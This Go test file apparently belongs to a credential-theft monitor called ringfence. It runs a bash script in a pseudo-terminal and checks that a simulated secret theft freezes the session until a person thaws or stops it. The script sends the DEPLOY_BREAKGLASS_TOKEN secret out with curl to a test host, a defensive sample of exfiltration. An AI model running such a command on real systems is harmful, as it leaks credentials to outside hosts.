package broker

import (
	"bytes"
	"context"
	"fmt"
	"os"
	"slices"
	"strings"
	"sync"
	"syscall"
	"testing"

	"golang.org/x/sys/unix"

	"ringfence.dev/ringfence/internal/journal"
	"ringfence.dev/ringfence/test/wait"
	"ringfence.dev/ringfence/test/world"
)

// seat is a terminal with somebody at it.
type seat struct {
	master *os.File
	mu     sync.Mutex
	seen   bytes.Buffer
}

func (s *seat) shows(text string) bool {
	s.mu.Lock()
	defer s.mu.Unlock()
	return strings.Contains(s.seen.String(), text)
}

func (s *seat) all() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.seen.String()
}

// sit starts ringfence at a terminal.
func (s *scene) sit(args ...string) (*seat, chan int) {
	s.t.Helper()
	master, err := os.OpenFile("/dev/ptmx", os.O_RDWR|unix.O_NOCTTY, 0)
	if err != nil {
		s.t.Fatal(err)
	}
	n, err := unix.IoctlGetInt(int(master.Fd()), unix.TIOCGPTN)
	if err == nil {
		err = unix.IoctlSetPointerInt(int(master.Fd()), unix.TIOCSPTLCK, 0)
	}
	if err != nil {
		s.t.Fatal(err)
	}
	slave, err := os.OpenFile(fmt.Sprintf("/dev/pts/%d", n), os.O_RDWR|unix.O_NOCTTY, 0)
	if err != nil {
		s.t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), wait.Patience)
	cmd := s.command(ctx, args...)
	cmd.Stdin, cmd.Stdout, cmd.Stderr = slave, slave, slave
	cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true, Setctty: true}
	if err := cmd.Start(); err != nil {
		s.t.Fatal(err)
	}
	slave.Close()
	seat := &seat{master: master}
	go func() {
		buf := make([]byte, 4096)
		for {
			n, err := master.Read(buf)
			seat.mu.Lock()
			seat.seen.Write(buf[:n])
			seat.mu.Unlock()
			if err != nil {
				return
			}
		}
	}()
	ended := make(chan int, 1)
	go func() {
		cmd.Wait()
		ended <- cmd.ProcessState.ExitCode()
	}()
	s.t.Cleanup(func() { cancel(); master.Close() })
	return seat, ended
}

// With somebody there a theft freezes the session until that person has decided.
func TestDecoyWithAPerson(t *testing.T) {
	for _, choice := range []string{"thaw", "stop"} {
		t.Run(choice, func(t *testing.T) {
			s, _ := sinks(t)
			script := `( while :; do date +%N >> tick; sleep 0.02; done ) & echo $DEPLOY_BREAKGLASS_TOKEN > decoy
				until [ -s tick ]; do sleep 0.01; done
				curl -sS -m5 -d "a=$DEPLOY_BREAKGLASS_TOKEN" http://allowed.test/digest; sleep 0.5; echo; echo went on; sleep 1; kill %1; exit 7`
			args := append([]string{"run", "--yes"}, sinkFlags[1:]...)
			seat, ended := s.sit(append(args, "bash", "-c", script)...)
			if !wait.For(func() bool { return seat.shows("is frozen") }) {
				t.Fatalf("no alarm:\n%s", seat.all())
			}
			id := ""
			for _, j := range s.Journal() {
				id = j.Session
			}
			for _, want := range []string{"decoy credential", "allowed.test", "ringfence stop " + id, "ringfence thaw " + id} {
				if !wait.For(func() bool { return seat.shows(want) }) {
					t.Errorf("the alarm does not say %q:\n%s", want, seat.all())
				}
			}
			before := s.have("tick")
			for range 20 { // longer than many ticks
				s.ringfence("log", id)
			}
			if after := s.have("tick"); after != before || before == "" {
				t.Errorf("it goes on while it is frozen: %q, %q", before, after)
			}
			if r := s.ringfence(choice, id); r.Status != 0 {
				t.Errorf("%s: %s", choice, r.show())
			}
			status := <-ended
			if choice == "thaw" && (status != 7 || !wait.For(func() bool { return seat.shows("went on") })) {
				t.Errorf("it did not go on: status %d\n%s", status, seat.all())
			}
			if choice == "stop" && (status == 7 || seat.shows("went on")) {
				t.Errorf("it was not ended: status %d\n%s", status, seat.all())
			}
			if gone := strings.TrimSpace(s.have("decoy")); gone == "" || slices.ContainsFunc(s.Heard(), func(h world.Heard) bool { return bytes.Contains(h.First, []byte(gone)) }) {
				t.Errorf("it arrived, or there was none: %q", gone)
			}
			if !slices.ContainsFunc(s.Journal(), func(j journal.Record) bool { return j.Event == journal.Frozen }) {
				t.Error("not in the journal")
			}
		})
	}
}
